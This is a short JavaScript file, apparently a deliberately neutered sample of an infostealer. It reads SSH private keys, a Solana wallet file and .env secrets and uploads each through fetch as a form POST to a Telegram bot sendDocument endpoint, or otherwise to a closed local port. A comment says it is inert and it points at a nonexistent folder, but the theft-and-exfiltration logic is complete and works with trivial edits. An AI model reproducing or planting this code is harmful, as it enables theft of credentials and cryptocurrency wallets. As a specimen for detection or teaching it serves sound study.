// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

const fs = require('fs');
const path = require('path');
const BOT = 'https://api.telegram.org/bot0:none/sendDocument';
const HOST = process.env.NEVER_SET_FOR_SAMPLES ? BOT : 'http://127.0.0.1:9/';
for (const name of ['.ssh/id_rsa', '.config/solana/id.json', '.env']) {
  const file = path.join(__dirname, 'no-such-home', name);
  if (!fs.existsSync(file)) continue;
  const form = new FormData();
  form.append('document', new Blob([fs.readFileSync(file)]), name);
  fetch(HOST, { method: 'POST', body: form }).catch(() => {});
}
